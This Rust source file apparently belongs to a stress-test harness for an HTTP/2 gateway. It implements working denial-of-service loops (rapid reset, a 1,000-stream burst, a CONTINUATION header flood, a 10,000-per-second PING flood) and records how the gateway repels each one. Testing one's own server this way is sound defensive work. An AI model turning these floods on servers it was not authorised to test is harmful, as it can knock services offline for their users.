//! The attacks of R7 (`h2_abuse`), each a loop for one phase that
//! reconnects when the gateway throws it out: rapid reset through the `h2`
//! crate, and by hand (`h2raw`) what a real client refuses to send.

use std::cell::Cell;
use std::net::SocketAddr;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::Instant;

use crate::h2raw::{self, Reader};
use crate::procnet;

pub(super) fn http_request(addr: SocketAddr, path: &str) -> ::http::Request<()> {
    ::http::Request::get(format!("http://{addr}{path}"))
        .body(())
        .expect("a valid request")
}

/// What one rapid-reset attacker saw.
pub(super) struct Rapid {
    pub(super) n_connections: u64,
    /// Connections ended by the gateway: a GOAWAY read, or the connection
    /// closed under the client's writes (the GOAWAY then often goes
    /// unread: the client's next write fails first).
    pub(super) n_goaway: u64,
    pub(super) n_closed: u64,
    /// Connections still open when the phase ended (paced only).
    pub(super) n_open: u64,
    pub(super) n_streams: u64,
    /// From a connection's first stream to its end, the longest.
    pub(super) slowest_end: Duration,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Ended {
    GoAway,
    Closed,
    Other,
}

/// HEADERS + RST_STREAM(CANCEL) on a new connection each time the gateway
/// ends one, for `phase`: as fast as the `h2` client allows, or `rate`
/// streams a second (in tens every 10 ms).
pub(super) async fn rapid_reset(addr: SocketAddr, phase: Duration, rate: Option<f64>) -> Rapid {
    let mut out = Rapid {
        n_connections: 0,
        n_goaway: 0,
        n_closed: 0,
        n_open: 0,
        n_streams: 0,
        slowest_end: Duration::ZERO,
    };
    let end = Instant::now() + phase;
    while Instant::now() < end {
        let Ok(tcp) = TcpStream::connect(addr).await else {
            break;
        };
        let Ok((client, connection)) = h2::client::handshake(tcp).await else {
            break;
        };
        out.n_connections += 1;
        let ended = Rc::new(Cell::new(None));
        let driver = tokio::task::spawn_local({
            let ended = Rc::clone(&ended);
            async move {
                let result = connection.await;
                ended.set(Some(match result {
                    Err(err) if err.is_go_away() => Ended::GoAway,
                    Err(err) if err.is_io() => Ended::Closed,
                    _ => Ended::Other,
                }));
            }
        });
        let started = Instant::now();
        let mut client = client;
        let mut n = 0u64;
        let per_tick = rate.map(|rate| (rate / 100.0).max(1.0) as u64);
        let mut tick = tokio::time::interval(Duration::from_millis(10));
        loop {
            let limit = match rate {
                Some(_) => end,
                None => end + Duration::from_secs(2),
            };
            if ended.get().is_some() || Instant::now() >= limit {
                break;
            }
            if let Some(per_tick) = per_tick
                && n.is_multiple_of(per_tick)
            {
                tick.tick().await;
            }
            let Ok(ready) = client.ready().await else {
                break;
            };
            client = ready;
            match client.send_request(http_request(addr, "/subscribe/h2/rapid"), false) {
                Ok((response, mut stream)) => {
                    stream.send_reset(h2::Reason::CANCEL);
                    drop(response);
                    n += 1;
                }
                Err(_) => break,
            }
            // Let the connection task write now and then.
            if per_tick.is_none() && n.is_multiple_of(64) {
                tokio::task::yield_now().await;
            }
        }
        // The verdict comes through the connection task (a paced one may
        // still be open at the end of the phase: no verdict then).
        let wait = match rate {
            Some(_) => Duration::from_millis(200),
            None => Duration::from_secs(2),
        };
        let _ = tokio::time::timeout(wait, async {
            while ended.get().is_none() {
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
        })
        .await;
        driver.abort();
        out.n_streams += n;
        match ended.get() {
            Some(Ended::GoAway) => out.n_goaway += 1,
            Some(Ended::Closed) => out.n_closed += 1,
            _ => {
                out.n_open += 1;
                continue;
            }
        }
        out.slowest_end = out.slowest_end.max(started.elapsed());
    }
    out
}

#[derive(Default)]
pub(super) struct Many {
    pub(super) n_connections: u64,
    pub(super) max_opened: u64,
    pub(super) n_refused: u64,
    pub(super) n_goaway: u64,
    /// Streams neither answered nor refused within 2 s.
    pub(super) n_unanswered: u64,
}

/// A connection a second that opens 1,000 subscribe streams at once, for
/// `phase`.
pub(super) async fn many_streams(addr: SocketAddr, phase: Duration) -> Many {
    let mut out = Many::default();
    let end = Instant::now() + phase;
    let mut tick = tokio::time::interval(Duration::from_secs(1));
    while Instant::now() < end {
        // One connection a second, held until the next.
        tick.tick().await;
        let Ok(mut tcp) = TcpStream::connect(addr).await else {
            break;
        };
        if h2raw::open(&mut tcp).await.is_err() {
            break;
        }
        let mut burst = Vec::new();
        for i in 0..1000u32 {
            let block = h2raw::get_block(&format!("/subscribe/h2/many{}", i % 10));
            burst.extend(h2raw::frame(
                h2raw::HEADERS,
                h2raw::END_STREAM | h2raw::END_HEADERS,
                1 + 2 * i,
                &block,
            ));
        }
        let (read, mut write) = tcp.into_split();
        if write.write_all(&burst).await.is_err() {
            break;
        }
        out.n_connections += 1;
        let mut reader = Reader::new(read);
        let (mut opened, mut refused, mut goaway_last) = (0u64, 0u64, None);
        // Answers until every stream is accounted for, or 2 s of silence.
        while opened + refused < 1000 {
            match reader.next(Duration::from_secs(2)).await {
                Ok(Some(frame)) => match frame.kind {
                    h2raw::HEADERS if frame.stream % 2 == 1 => opened += 1,
                    h2raw::RST_STREAM if frame.error_code() == Some(h2raw::REFUSED_STREAM) => {
                        refused += 1
                    }
                    h2raw::GOAWAY => {
                        let last = frame
                            .payload
                            .get(..4)
                            .map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]) & 0x7fff_ffff);
                        goaway_last = last;
                    }
                    h2raw::SETTINGS if frame.flags & h2raw::ACK == 0 => {
                        let _ = write
                            .write_all(&h2raw::frame(h2raw::SETTINGS, h2raw::ACK, 0, &[]))
                            .await;
                    }
                    _ => {}
                },
                Ok(None) | Err(()) => break,
            }
        }
        out.max_opened = out.max_opened.max(opened);
        out.n_refused += refused;
        // A GOAWAY refuses every stream above its last stream id.
        let beyond = goaway_last.map_or(0, |last| (1000 - last.div_ceil(2)).into());
        if goaway_last.is_some() {
            out.n_goaway += 1;
        }
        out.n_unanswered += 1000u64.saturating_sub(opened + refused + beyond);
    }
    out
}

#[derive(Default)]
pub(super) struct Flood {
    pub(super) n_connections: u64,
    pub(super) n_closed: u64,
    /// Header block bytes the gateway read of the first connection's flood
    /// before it closed it (sent a frame at a time, each once it had read
    /// the last).
    pub(super) read_before_close: u64,
    pub(super) closed_measured: bool,
    pub(super) slowest: Duration,
    pub(super) goaway_code: Option<u32>,
}

/// HEADERS without END_HEADERS, then CONTINUATION frames of 4 KiB of
/// header fields each, until the gateway closes the connection (or 4 MiB):
/// the first connection in lockstep with the gateway's reads (to measure
/// what it took), the next ones flat out, ten a second for `phase`.
pub(super) async fn continuation_flood(addr: SocketAddr, phase: Duration) -> Flood {
    let mut out = Flood::default();
    let end = Instant::now() + phase;
    let field = h2raw::literal(b"x-flood", &[b'f'; 4000]);
    let first = h2raw::frame(
        h2raw::HEADERS,
        0,
        1,
        &h2raw::get_block("/subscribe/h2/flood"),
    );
    let continuation = h2raw::frame(h2raw::CONTINUATION, 0, 1, &field);
    let n_frames = (4usize << 20) / continuation.len();
    let mut tick = tokio::time::interval(Duration::from_millis(100));
    while Instant::now() < end {
        // Ten connections a second.
        tick.tick().await;
        let Ok(mut tcp) = TcpStream::connect(addr).await else {
            break;
        };
        let Ok(local) = tcp.local_addr() else {
            break;
        };
        if h2raw::open(&mut tcp).await.is_err() {
            break;
        }
        out.n_connections += 1;
        let (read, mut write) = tcp.into_split();
        let closed = Rc::new(Cell::new(false));
        let code = Rc::new(Cell::new(None));
        let reader = tokio::task::spawn_local({
            let (closed, code) = (Rc::clone(&closed), Rc::clone(&code));
            async move {
                let mut reader = Reader::new(read);
                loop {
                    match reader.next(Duration::from_secs(10)).await {
                        Ok(Some(frame)) if frame.kind == h2raw::GOAWAY => {
                            code.set(frame.error_code())
                        }
                        Ok(Some(_)) => {}
                        Ok(None) | Err(()) => break,
                    }
                }
                closed.set(true);
            }
        });
        let started = Instant::now();
        if out.n_connections == 1 {
            let pieces: Vec<&[u8]> = std::iter::once(first.as_slice())
                .chain(std::iter::repeat_n(continuation.as_slice(), n_frames))
                .collect();
            let ports = (addr.port(), local.port());
            let (read, _) = procnet::lockstep(&mut write, ports, &pieces, || closed.get()).await;
            out.read_before_close = read;
        } else {
            let mut sent = 0u64;
            let mut frame = first.as_slice();
            while sent < 4 << 20 && !closed.get() {
                if write.write_all(frame).await.is_err() {
                    break;
                }
                sent += frame.len() as u64;
                frame = continuation.as_slice();
            }
        }
        let _ = tokio::time::timeout(Duration::from_secs(2), async {
            while !closed.get() {
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
        })
        .await;
        reader.abort();
        if closed.get() {
            out.n_closed += 1;
            if out.n_connections == 1 {
                out.closed_measured = true;
            }
        }
        out.slowest = out.slowest.max(started.elapsed());
        out.goaway_code = code.get().or(out.goaway_code);
    }
    out
}

pub(super) const PINGS_PER_SECOND: u64 = 10_000;

#[derive(Default)]
pub(super) struct Pings {
    pub(super) n_sent: u64,
    pub(super) n_acked: u64,
    pub(super) goaway_code: Option<u32>,
}

/// PINGs at `PINGS_PER_SECOND` (100 every 10 ms) for `phase`, reading the
/// answers.
pub(super) async fn ping_flood(addr: SocketAddr, phase: Duration) -> Pings {
    let mut out = Pings::default();
    let Ok(mut tcp) = TcpStream::connect(addr).await else {
        return out;
    };
    if h2raw::open(&mut tcp).await.is_err() {
        return out;
    }
    let (read, mut write) = tcp.into_split();
    let acked = Rc::new(Cell::new(0u64));
    let code = Rc::new(Cell::new(None));
    let reader = tokio::task::spawn_local({
        let (acked, code) = (Rc::clone(&acked), Rc::clone(&code));
        async move {
            let mut reader = Reader::new(read);
            while let Ok(Some(frame)) = reader.next(Duration::from_secs(10)).await {
                match frame.kind {
                    h2raw::PING if frame.flags & h2raw::ACK != 0 => acked.set(acked.get() + 1),
                    h2raw::GOAWAY => code.set(frame.error_code()),
                    _ => {}
                }
            }
        }
    });
    let batch: Vec<u8> = (0..PINGS_PER_SECOND / 100)
        .flat_map(|i| h2raw::frame(h2raw::PING, 0, 0, &i.to_be_bytes()))
        .collect();
    let mut tick = tokio::time::interval(Duration::from_millis(10));
    let end = Instant::now() + phase;
    while Instant::now() < end {
        tick.tick().await;
        if write.write_all(&batch).await.is_err() {
            break;
        }
        out.n_sent += PINGS_PER_SECOND / 100;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    reader.abort();
    out.n_acked = acked.get();
    out.goaway_code = code.get();
    out
}
